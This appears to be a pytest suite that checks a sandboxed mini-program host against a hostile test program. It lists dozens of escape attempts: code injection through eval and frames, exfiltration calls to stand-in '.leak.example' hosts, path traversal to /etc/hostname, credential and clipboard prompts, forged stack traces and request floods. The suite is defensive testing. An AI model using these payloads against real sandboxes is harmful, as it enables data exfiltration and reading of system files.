"""Every way out of the box that a program could try: each fails, or is recorded as what it is.

One program makes all attempts of ``ATTEMPTS`` one after another, with the proxy behind it; each row looks at what its
attempt told and at the recording. ``g`` is the real window, ``doc`` its document: that they can be reached is taken as
given, what can be done with them is not.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio
from playwright.async_api import async_playwright

from crawler.host import chromium
from interceptors.client import Proxy
from interceptors.delivery import Delivery
from recording.profile import Backend, Profile
from recording.recording import Recording

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

REFUSED = "refused"
"""The attempt threw, was rejected, or gave nothing."""
STAYS = "stays"
"""Whatever it gave: the program is still in its page afterwards, and no other page is open."""


@dataclass(frozen=True)
class Attempt:
    """``code`` is the body of an async function. ``flow``: a host that must be in the recording, as no call's flow."""

    name: str
    code: str
    expect: str = REFUSED
    flow: str = ""


def _frame(markup: str) -> str:
    return f"const f = doc.createElement('iframe'); {markup}; doc.documentElement.appendChild(f); await pause(300);"


_PAUSE = "; await pause(150)"
"""A navigation must begin before the next one takes its place."""
_RAN = "return g.gained.splice(0).join() || refuse()"
_CODE = "parent.gained.push(1)"
_LEAKS = {
    "fetch": "await g.fetch('https://fetch.leak.example/?a=1', { mode: 'no-cors' })",
    "fetch of a fresh frame": _frame("")
    + "await f.contentWindow.fetch('https://frame.leak.example/', { mode: 'no-cors' })",
    "XMLHttpRequest": "const x = new g.XMLHttpRequest(); x.open('POST', 'https://xhr.leak.example/'); x.send('a')",
    "sendBeacon": "g.navigator.sendBeacon('https://beacon.leak.example/', 'a')",
    "picture": "new g.Image().src = 'https://pixel.leak.example/p.gif?a=1'",
    "style": "doc.body.style.background = 'url(https://css.leak.example/b.png)'",
    "WebSocket": "new g.WebSocket('wss://socket.leak.example/')",
    "media": "const v = doc.createElement('video'); v.src = 'https://media.leak.example/v.mp4'; v.load()",
    "font": "const n = new g.FontFace('x', 'url(https://font.leak.example/f.woff)'); n.load().catch(() => 0)",
    "ping": "const a = doc.createElement('link'); a.rel = 'prefetch'; a.href = 'https://prefetch.leak.example/'; "
    "doc.head.appendChild(a)",
    "stylesheet": "const l = doc.createElement('link'); l.rel = 'stylesheet'; "
    "l.href = 'https://sheet.leak.example/s.css'; "
    "doc.head.appendChild(l)",
    "frame": _frame("f.src = 'https://document.leak.example/'"),
    "localhost": "await g.fetch('http://localhost:8799/local', { mode: 'no-cors' }).catch(() => 0)",
}
_FLOWS = {
    "fetch of a fresh frame": "frame.leak.example",
    "XMLHttpRequest": "xhr.leak.example",
    "sendBeacon": "beacon.leak.example",
    "picture": "pixel.leak.example",
    "style": "css.leak.example",
    "WebSocket": "socket.leak.example",
    "ping": "prefetch.leak.example",
    "stylesheet": "sheet.leak.example",
    "frame": "document.leak.example",
    "localhost": "localhost",
}

ATTEMPTS = (
    # Text that becomes code.
    Attempt("eval", "return g.eval('1+1')"),
    Attempt("Function", "return new Function('return 2')()"),
    Attempt("constructor of a function", "return (function () {}).constructor('return 2')()"),
    Attempt("constructor of a generator", "return (function* () {}).constructor('yield 2')().next().value"),
    Attempt("constructor of an async function", "return await (async function () {}).constructor('return 2')()"),
    Attempt("timer with a text", "g.setTimeout('gained.push(1)', 0); await pause(30); " + _RAN),
    Attempt(
        "script element",
        "const s = doc.createElement('script'); s.text = 'gained.push(1)'; doc.head.append(s); " + _RAN,
    ),
    Attempt("script from the network", "const s = doc.createElement('script'); s.src = 'https://a.example/x.js'"),
    Attempt(
        "script of the project",
        "const s = doc.createElementNS('http://www.w3.org/2000/svg', 'script'); "
        "s.setAttribute('href', '/wx0/devtools/pages/a/a.js'); doc.body.append(s); return refuse()",
    ),
    Attempt("markup with a handler", "doc.body.insertAdjacentHTML('beforeend', '<img src=x onerror=gained.push(1)>')"),
    Attempt(
        "handler as an attribute", "const e = doc.createElement('img'); e.setAttribute('onerror', 'gained.push(1)')"
    ),
    Attempt("data module", "return await import('data:text/javascript,1')"),
    Attempt(
        "blob module", "return await import(g.URL.createObjectURL(new g.Blob(['1'], { type: 'text/javascript' })))"
    ),
    Attempt("module of the project", "return (await import(base + 'pages/a/picture.svg')).default"),
    Attempt("policy of the host's name", "return g.trustedTypes.createPolicy('mi', { createScript: (s) => s })"),
    Attempt("policy of another name", "return g.trustedTypes.createPolicy('other', { createScript: (s) => s })"),
    Attempt(
        "policy of a fresh frame",
        _frame("") + "const c = f.contentWindow; "
        "return c.eval(c.trustedTypes.createPolicy('mi', { createScript: (s) => s }).createScript('1+1'))",
    ),
    Attempt("text as a frame's script", _frame("f.srcdoc = '<script>" + _CODE + "</scr' + 'ipt>'") + _RAN),
    Attempt(
        "blob as a frame",
        _frame(
            "f.src = g.URL.createObjectURL(new g.Blob(['<script>" + _CODE + "</scr' + 'ipt>'], { type: 'text/html' }))"
        )
        + _RAN,
    ),
    Attempt("data as a frame", _frame("f.src = 'data:text/html,<script>" + _CODE + "</scr' + 'ipt>'") + _RAN),
    Attempt("picture as a frame", _frame("f.src = base + 'pages/a/picture.svg'") + _RAN),
    Attempt("address as a script", _frame("f.src = 'javascript:" + _CODE + "'") + _RAN),
    Attempt("worker", "return new g.Worker('data:text/javascript,1')"),
    Attempt(
        "worker of a blob", _frame("") + "return new f.contentWindow.Worker(g.URL.createObjectURL(new g.Blob(['1'])))"
    ),
    Attempt("shared worker", _frame("") + "return new f.contentWindow.SharedWorker(base + 'pages/a/a.js')"),
    Attempt("service worker", "return await g.navigator.serviceWorker.register(base + 'pages/a/a.js')"),
    Attempt(
        "service worker of a frame",
        _frame("") + "const s = f.contentWindow.navigator.serviceWorker; "
        "return await Object.getPrototypeOf(s).register.call(s, base) || refuse()",
    ),
    Attempt(
        "worklet",
        "const c = new g.OfflineAudioContext(1, 1, 8000); "
        "return await c.audioWorklet.addModule('data:text/javascript,1').then(() => 'ran')",
    ),
    # The host itself.
    Attempt(
        "names left over",
        "return Object.getOwnPropertyNames(g).filter((n) => /^_[0-9a-f]{24}$/.test(n)).join() || refuse()",
    ),
    Attempt("something of the host to hold", "return reach(g) || refuse()"),
    Attempt("a second host", "await import(base + '__host/main.js?again'); return 'ran'"),
    Attempt(
        "messages to nobody",
        "for (const t of ['call', 'ready', 'dialog_answer']) g.postMessage({ t, api: 'wx.forged' }, '*'); "
        "const detail = { t: 'call', api: 'wx.forged' }; "
        "for (const t of ['mi', 'answer']) doc.dispatchEvent(new g.CustomEvent(t, { detail })); "
        "return refuse()",
    ),
    Attempt(
        "binding of a frame",
        _frame("") + "Object.getOwnPropertyNames(f.contentWindow)"
        ".filter((n) => /^_[0-9a-f]{24}$/.test(n)).forEach((n) => { try { f.contentWindow[n](JSON.stringify("
        "{ t: 'call', id: 'c999', api: 'wx.forged', args: {}, label: 'x' })) } catch (e) {} }); return refuse()",
    ),
    # Ways to the network that are none of the platform's.
    *(
        Attempt(name, code, STAYS, _FLOWS.get(name, "fetch.leak.example" if name == "fetch" else ""))
        for name, code in _LEAKS.items()
    ),
    Attempt("peer connection", "return new g.RTCPeerConnection({ iceServers: [{ urls: 'stun:stun.leak.example' }] })"),
    Attempt("peer connection of a frame", _frame("") + "return new f.contentWindow.RTCPeerConnection()"),
    Attempt(
        "peer connection of a frame with an address",
        _frame("f.src = base + 'pages/a/picture.svg'") + "return new f.contentWindow.RTCPeerConnection()",
    ),
    Attempt("web transport", "return new g.WebTransport('https://127.0.0.1:9/')"),
    Attempt("event source", "return new g.EventSource('https://events.leak.example/')"),
    # Away from the page.
    Attempt("location", "g.location = 'https://away.example/'", STAYS),
    Attempt("location of the top", "g.top.location.href = 'https://away.example/top'", STAYS),
    Attempt("reload", "g.location.reload()", STAYS),
    Attempt("back in history", "g.history.back(); g.history.go(-1)", STAYS),
    Attempt("another address in history", "g.history.pushState({}, '', base + 'other')", STAYS),
    Attempt(
        "link",
        "const a = doc.createElement('a'); a.href = 'https://away.example/link'; doc.body.append(a); a.click()",
        STAYS,
    ),
    Attempt(
        "link to a new page",
        "const a = doc.createElement('a'); a.href = 'https://away.example/blank'; a.target = '_blank'; "
        "doc.body.append(a); a.click()",
        STAYS,
    ),
    Attempt(
        "download",
        "const a = doc.createElement('a'); a.href = 'data:text/plain,x'; a.download = 'x'; "
        "doc.body.append(a); a.click()",
        STAYS,
    ),
    Attempt("new window", "return g.open('https://away.example/window') || refuse()"),
    Attempt(
        "form",
        "const f = doc.createElement('form'); f.action = 'https://away.example/form'; doc.body.append(f); f.submit()",
        STAYS,
    ),
    Attempt(
        "refresh",
        "const m = doc.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=https://away.example/r'; "
        "doc.head.append(m)",
        STAYS,
    ),
    # What a browser asks its user for.
    Attempt("alert", "g.alert('x'); return g.confirm('x') || refuse()"),
    Attempt("print", "g.print()", STAYS),
    Attempt("full screen", "return await doc.documentElement.requestFullscreen().then(() => 'full')"),
    Attempt(
        "notification",
        "return new g.Notification('x').permission === 'granted' || (await g.Notification.requestPermission())"
        " === 'granted' || refuse()",
    ),
    Attempt("clipboard", "return await g.navigator.clipboard.readText()"),
    Attempt("position", "return await new Promise((yes, no) => g.navigator.geolocation.getCurrentPosition(yes, no))"),
    Attempt("camera", "return await g.navigator.mediaDevices.getUserMedia({ video: true })"),
    Attempt(
        "credentials", "return (await g.navigator.credentials.get({ password: true, mediation: 'silent' })) || refuse()"
    ),
    # Files of the machine and of the host.
    Attempt("file", "return await (await g.fetch('file:///etc/hostname')).text()"),
    Attempt(
        "file of a frame",
        _frame("f.src = 'file:///etc/hostname'")
        + "return f.contentDocument && f.contentDocument.body.textContent || refuse()",
    ),
    *(
        Attempt(f"path {path}", f"const r = await g.fetch(base + '{path}'); return r.ok ? await r.text() : refuse()")
        for path in (
            "../../../../etc/hostname",
            "..%2f..%2f..%2f..%2fetc/hostname",
            "__host/..%2f..%2f..%2fpyproject.toml",
            "__host/npm/..%2f..%2fpackage.json",
            "__host/npm/sucrase/..%2f..%2f..%2fpackage.json",
            "%2e%2e/%2e%2e/pyproject.toml",
            "/etc/hostname",
        )
    ),
    *(
        Attempt(f"file system {path}", f"return wx.getFileSystemManager().readFileSync('{path}', 'utf8')")
        for path in (
            "/etc/hostname",
            "../../../../etc/hostname",
            "file:///etc/hostname",
            "wxfile://../../etc/hostname",
            "wxfile://usr/../../../etc/hostname",
            "wxfile://usr/%2e%2e/%2e%2e/etc/hostname",
            "link.txt",
        )
    ),
    Attempt("module out of the project", "return require('../../../../../../etc/hostname')"),
    Attempt("module of the host", "return require('../../__host/bridge.js')"),
    # What was kept by another program, or in another run.
    Attempt(
        "storage of another",
        "return g.localStorage.getItem('kept') || g.sessionStorage.getItem('kept') || doc.cookie || "
        "(await g.indexedDB.databases()).map((d) => d.name).join() || (await g.caches.keys()).join() || "
        "wx.getStorageSync('kept') || refuse()",
    ),
    # Where a call came from.
    Attempt("no stack", "Error.stackTraceLimit = 0; wx.setStorageSync('limit', 1); Error.stackTraceLimit = 10", STAYS),
    Attempt(
        "another stack",
        "Error.prepareStackTrace = () => 'at x (https://a.example/x.js:1:1)'; wx.setStorageSync('stack', 1)",
        STAYS,
    ),
    Attempt("another file's name", "require('./forged.js').call()", STAYS),
    # What a call was given.
    Attempt("getter that throws", "wx.setStorageSync('getter', { get a() { throw 1 }, b: 2 })", STAYS),
    Attempt("cycle", "const o = { b: 2 }; o.o = o; try { wx.setStorageSync('cycle', o) } catch (e) {}", STAYS),
    Attempt(
        "proxy", "try { wx.setStorageSync('proxy', new Proxy({}, { ownKeys() { throw 1 } })) } catch (e) {}", STAYS
    ),
    Attempt(
        "huge",
        "const s = 'x'.repeat(3e5); "
        "try { wx.setStorageSync('huge', Array.from({ length: 50 }, () => s)) } catch (e) {}",
        STAYS,
    ),
    Attempt(
        "everything is a node",
        "const h = { value: () => true, configurable: true }; "
        "for (const c of ['Node', 'ArrayBuffer']) Object.defineProperty(g[c], Symbol.hasInstance, h); "
        "wx.setStorageSync('node', { b: 2 }); for (const c of ['Node', 'ArrayBuffer']) delete g[c][Symbol.hasInstance]",
        STAYS,
    ),
    Attempt(
        "descriptors of another kind",
        "Object.prototype.get = () => 0; Object.prototype.value = 'x'; "
        "try { wx.setStorageSync('kind', { b: 2 }) } finally { delete Object.prototype.get; "
        "delete Object.prototype.value }",
        STAYS,
    ),
    Attempt(
        "errors that throw",
        "g.setTimeout(() => { throw { get message() { throw 1 } } }, 0); "
        "Promise.reject({ get message() { throw 1 }, get errMsg() { throw 2 } }); await pause(30)",
        STAYS,
    ),
    # Too much of everything.
    Attempt("calls without end", "for (let i = 0; i < 20000; i += 1) wx.getStorageSync('a')", STAYS),
    Attempt(
        "console without end", "for (let i = 0; i < 20000; i += 1) console.log('x'); doc.title = 'x'.repeat(1e6)", STAYS
    ),
    Attempt("violations without end", "for (let i = 0; i < 2000; i += 1) { try { g.eval('1') } catch (e) {} }", STAYS),
)

APP = r"""
var g = (function () { return this })();
var doc = g.document;
var base = g.location.href.replace(/page-frame.*/, '');
g.gained = [];
var refuse = function () { throw new Error('nothing') };
var pause = function (ms) { return new Promise(function (done) { setTimeout(done, ms) }) };
// Whether anything of the host's own can be come by from what the program can reach.
var reach = function (start) {
  var seen = new Set(), queue = [[start, 'g', 0]];
  [].slice.call(doc.querySelectorAll('*')).forEach(function (e) { queue.push([e, e.localName, 0]) });
  queue.push([getCurrentPages()[0], 'page', 0], [wx, 'wx', 0], [getApp(), 'app', 0]);
  for (var next = 0; next < queue.length && seen.size < 40000; next += 1) {
    var at = queue[next], value = at[0];
    queue[next] = null;
    if (value === null || (typeof value !== 'object' && typeof value !== 'function') || seen.has(value)) continue;
    seen.add(value);
    if (at[2] > 6 || ArrayBuffer.isView(value)) continue;
    var names = [];
    try { names = Reflect.ownKeys(value) } catch (e) {}
    if (names.indexOf('recordLoad') >= 0 || names.indexOf('currentCall') >= 0) return at[1];
    if (names.indexOf('ask') >= 0 && names.indexOf('send') >= 0) return at[1];
    names.forEach(function (n) {
      var d; try { d = Object.getOwnPropertyDescriptor(value, n) } catch (e) {}
      if (d && 'value' in d) queue.push([d.value, at[1] + '.' + String(n), at[2] + 1]);
    });
    try { queue.push([Object.getPrototypeOf(value), at[1] + '.__proto__', at[2] + 1]) } catch (e) {}
  }
  return '';
};
ATTEMPTS
var report = {};
var all = async function () {
  for (var name in attempts) {
    try { report[name] = String(await Promise.race([attempts[name](), pause(2500)])) }
    catch (e) { report[name] = 'refused' }
  }
  wx.setStorageSync('REPORT', report);
};
module.exports = { all: all };
"""


def _files() -> dict[str, str]:
    functions = ",\n".join(
        f"{json.dumps(a.name)}: async function () {{ {a.code}{_PAUSE if 'away.example' in a.code else ''} }}"
        for a in ATTEMPTS
    )
    return {
        "app.json": json.dumps({"pages": ["pages/a/a", "pages/b/b"]}),
        "app.js": "App({})",
        "app.wxss": "* { opacity: 0.99 } .mio-mask { display: none !important } [data-mi-part] { display: none }",
        "pages/a/a.js": "const { all } = require('./attempts.js'); Page({ go() { setTimeout(all, 0) } })",
        "pages/a/a.wxml": "<view bindtap='go'>开始</view>",
        "pages/a/attempts.js": APP.replace("ATTEMPTS", "var attempts = {\n" + functions + "\n};"),
        "pages/a/forged.js": "exports.call = () => wx.setStorageSync('forged', 1);\n"
        "//# sourceURL=https://servicewechat.com/wx0000000000000000/devtools/pages/b/innocent.js",
        "pages/a/picture.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_CODE}</script></svg>",
        "pages/b/b.js": "Page({})",
        "pages/b/b.wxml": "<view>另一页</view>",
    }


@dataclass(frozen=True)
class Told:
    """What came of all attempts."""

    report: dict[str, str]
    recording: Recording
    pages: list[str]
    texts: list[str]
    forged: int


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def told(tmp_path_factory: pytest.TempPathFactory, running: Any) -> AsyncIterator[Told]:
    """Another program keeps something first, in the same browser; then all attempts are made."""
    folder = tmp_path_factory.mktemp("escapes")
    (folder / "hostile" / "project").mkdir(parents=True)
    (folder / "hostile" / "project" / "link.txt").symlink_to("/etc/hostname")
    async with async_playwright() as playwright:
        yield await _run(playwright, folder, running)


async def _run(playwright: Any, folder: Path, running: Any) -> Told:
    keeper = {
        "app.json": '{"pages": ["a/a"]}',
        "a/a.js": "var g = (function () { return this })(); Page({ onLoad() { g.localStorage.kept = 1; "
        "g.document.cookie = 'kept=1';"
        " wx.setStorageSync('kept', 1); g.indexedDB.open('kept'); g.caches.open('kept') } })",
        "a/a.wxml": "<view>先来的</view>",
    }
    first = hostile = None
    backend = folder / "backend.json"
    backend.write_text('{"routes": [], "default": {"status": 404, "json": {}}}')
    holder: list[Any] = []
    proxy: Proxy | None = None
    try:
        target = running(None, folder / "hostile", _files(), Profile())
        delivery = Delivery(target.log, lambda label: target.driver.call_for_label(label))
        proxy = await Proxy.start(target.log.root, delivery, backend=Backend(mode="stub", file=str(backend)))
        browser = await chromium.launch(playwright, [proxy.spki])
        holder.append(browser)
        first = await running(browser, folder / "first", keeper, Profile()).start()
        target.driver._browser = browser
        target.driver.proxy_port = await proxy.listen("test")
        hostile = await target.start()
        await hostile.tap("开始")
        async with asyncio.timeout(120):
            while not _report(hostile.recording()):
                await hostile.driver.calls()
                await asyncio.sleep(0.5)
        texts = await hostile.texts()
        pages = [page.url for page in hostile.driver._page.context.pages]
        forged = hostile.driver.forged
        await hostile.driver.close()
        await proxy.fence(1)
        delivery.flush()
    finally:
        for opened in (first, hostile):
            if opened is not None:
                await opened.driver.close()
                opened.log.close()
        if proxy is not None:
            await proxy.stop()
        for browser in holder:
            await browser.close()
    recording = Recording(folder / "hostile" / "original")
    return Told(json.loads(_report(recording)), recording, pages, texts, forged)


def _report(recording: Recording) -> str:
    return next((str(e.data["value"]) for e in recording.of("storage") if e.data["key"] == "REPORT"), "")


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda attempt: attempt.name)
async def test_attempt(attempt: Attempt, told: Told) -> None:
    found = told.report[attempt.name]
    if attempt.expect == REFUSED:
        assert found == "refused"
    assert told.texts == ["开始"], "the program is in its page after all of them"
    assert len(told.pages) == 1
    assert told.pages[0].endswith(("page-frame.html", "/other"))
    if attempt.flow:
        flows = [e.data for e in told.recording.of("flow") if e.data["host"] == attempt.flow]
        assert flows, f"nothing was recorded of {attempt.flow}"
        assert {flow.get("call", "") for flow in flows} == {""}


async def test_what_was_told_is_what_was_done(told: Told) -> None:
    calls = [e.data for e in told.recording.of("call") if e.data["phase"] == "begin"]
    assert not [call for call in calls if "forged" in call["api"]]
    assert told.forged > 0
    kept = {call["args"][0]: call for call in calls if call["api"] == "wx.setStorageSync"}
    for key in ("limit", "stack"):
        assert (kept[key]["file"], kept[key]["line"] > 0) == ("pages/a/attempts.js", True), key
    assert kept["forged"]["file"] == "pages/a/forged.js"
    assert kept["getter"]["args"] == ["getter", {"a": "[getter]", "b": 2}]
    assert kept["node"]["args"] == ["node", {"b": 2}]
    assert kept["kind"]["args"] == ["kind", {"b": 2}]
    assert {"cycle", "proxy", "huge"} <= set(kept)
    assert len(json.dumps(kept["huge"]["args"])) < 2_000_000

    blocked = {(note.data["what"], note.data["sample"]) for note in told.recording.notes("blocked")}
    away = {sample for what, sample in blocked if what == "navigation"}
    assert {"https://away.example/", "https://away.example/top", "https://away.example/link"} <= away
    assert {"script-src", "require-trusted-types-for"} & {what for what, _ in blocked}
    hosts = {str(e.data["host"]) for e in told.recording.of("flow")}
    assert not {host for host in hosts if host.startswith(("away.", "stun.", "events."))}


async def test_floods_are_counted_and_bury_nothing(told: Told) -> None:
    reads = [e for e in told.recording.of("call") if e.data["api"] == "wx.getStorageSync"]
    omitted = sum(
        note.data["count"] for note in told.recording.notes("omitted") if note.data["what"] == "wx.getStorageSync"
    )
    assert len(reads) < 4000
    assert omitted + len(reads) / 2 >= 20000
    assert len(told.recording.notes("console")) <= 401
    assert len(told.recording.notes("blocked")) <= 400
    assert told.recording.damage == []
